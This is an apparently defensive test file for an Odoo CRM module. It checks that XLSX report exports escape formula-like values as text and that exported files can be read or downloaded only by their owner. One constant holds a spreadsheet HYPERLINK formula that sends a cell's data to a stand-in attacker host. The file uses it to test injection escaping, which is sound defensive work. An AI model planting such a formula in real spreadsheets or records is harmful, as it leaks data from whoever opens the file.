"""Report exports: every cell is a value, never a formula, and the exported file
is its owner's alone (not every employee's who guesses its id)."""
import base64
import io
import zipfile
from datetime import timedelta

import xlrd

from odoo import fields
from odoo.exceptions import AccessError
from odoo.tests.common import at_install, post_install

from .common import GROUP_ACCOUNTANT, LifecycleCase, LifecycleHttpCase, create_customer, \
    create_opportunity, create_user

FORMULA_NAME = '=HYPERLINK("http://evil.example/steal?d="&A2,"Click")'


def attachment_of(env, action):
    """The attachment an export action downloads (/web/content/<id>?download=true)."""
    return env["ir.attachment"].browse(int(action["url"].split("/")[3].split("?")[0]))


def sheet_xml(data):
    """The XML of the first sheet of an XLSX file."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return book.read("xl/worksheets/sheet1.xml").decode("utf-8")


class TestExports(LifecycleCase):

    @classmethod
    def setUpClass(cls):
        super(TestExports, cls).setUpClass()
        env = cls.env
        cls.other_accountant = create_user(env, "cn_accountant2", ["base.group_user", GROUP_ACCOUNTANT])
        cls.evil = create_customer(env, FORMULA_NAME)
        create_opportunity(env, cls.evil, "Evil deal", user_id=cls.salesperson.id)

    def pipeline_export(self, user):
        rows = self.env["crm.cn.pipeline.risk.report"].sudo(user).search([("partner_id", "=", self.evil.id)])
        return attachment_of(self.env, rows.action_export_xlsx())

    def test_pipeline_risk_export_writes_a_formula_like_name_as_text(self):
        data = base64.b64decode(self.pipeline_export(self.accountant).datas)
        self.assertNotIn("<f>", sheet_xml(data))
        sheet = xlrd.open_workbook(file_contents=data).sheet_by_index(0)
        self.assertEqual(sheet.cell_type(1, 0), xlrd.XL_CELL_TEXT)
        self.assertEqual(sheet.cell_value(1, 0), "'" + FORMULA_NAME)
        self.assertEqual(sheet.cell_value(1, sheet.row_values(0).index("Open Opportunities")), 1)

    def test_another_employee_cannot_read_someones_pipeline_export(self):
        attachment = self.pipeline_export(self.accountant)
        for intruder in (self.other_accountant, self.manager, self.salesperson):
            with self.assertRaises(AccessError):
                attachment.sudo(intruder).read(["datas"])
            self.assertFalse(self.env["ir.attachment"].sudo(intruder).search([("id", "=", attachment.id)]))

    def test_the_owner_reads_its_own_export(self):
        attachment = self.pipeline_export(self.accountant)
        [values] = attachment.sudo(self.accountant).read(["datas", "datas_fname"])
        self.assertEqual(values["datas_fname"], "pipeline_risk.xlsx")
        self.assertTrue(zipfile.is_zipfile(io.BytesIO(base64.b64decode(values["datas"]))))
        export = self.env["crm.cn.export"].sudo(self.accountant).search([])
        self.assertEqual((export.name, export.user_id), ("pipeline_risk.xlsx", self.accountant))

    def test_forecast_and_campaign_roi_exports_belong_to_their_owner_only(self):
        for model, method in (("crm.cn.forecast.report", "action_export_quarter_xlsx"),
                              ("crm.cn.campaign.roi.report", "action_export_xlsx")):
            attachment = attachment_of(self.env, getattr(self.env[model].sudo(self.accountant), method)())
            self.assertTrue(attachment.sudo(self.accountant).read(["datas"])[0]["datas"], model)
            with self.assertRaises(AccessError):
                attachment.sudo(self.other_accountant).read(["datas"])

    def test_an_employee_cannot_hand_itself_an_export_record(self):
        with self.assertRaises(AccessError):
            self.env["crm.cn.export"].sudo(self.salesperson).create({"name": "x.xlsx"})

    def test_exports_older_than_two_days_are_deleted_with_their_file(self):
        old = self.pipeline_export(self.accountant)
        new = self.pipeline_export(self.accountant)
        self.env.cr.execute("UPDATE crm_cn_export SET create_date = %s WHERE id = %s",
                            (fields.Datetime.to_string(fields.Datetime.from_string(fields.Datetime.now())
                                                       - timedelta(days=3)), old.res_id))
        self.env["crm.cn.export"].invalidate_cache()
        self.env["crm.cn.export"]._cron_delete_old_exports()
        self.assertFalse(old.exists())
        self.assertTrue(new.exists())


@at_install(False)
@post_install(True)
class TestExportDownload(LifecycleHttpCase):

    def build_world(self):
        env = self.env
        self.owner = create_user(env, "exp_owner", ["base.group_user", GROUP_ACCOUNTANT])
        self.intruder = create_user(env, "exp_intruder", ["base.group_user", GROUP_ACCOUNTANT])
        customer = create_customer(env, "Export Download Customer")
        create_opportunity(env, customer, "Download deal")
        rows = env["crm.cn.pipeline.risk.report"].sudo(self.owner).search([("partner_id", "=", customer.id)])
        self.attachment = attachment_of(env, rows.action_export_xlsx())
        self.data = base64.b64decode(self.attachment.datas)

    def download(self):
        return self.url_open("/web/content/%d?download=true" % self.attachment.id)

    def test_another_employee_cannot_download_someones_export(self):
        self.authenticate("exp_intruder", "exp_intruder")
        response = self.download()
        self.assertNotEqual(response.status_code, 200)
        self.assertNotEqual(response.content, self.data)
        self.assertNotIn(b"Export Download Customer", response.content)

    def test_the_owner_downloads_its_export(self):
        self.authenticate("exp_owner", "exp_owner")
        response = self.download()
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response.content, self.data)
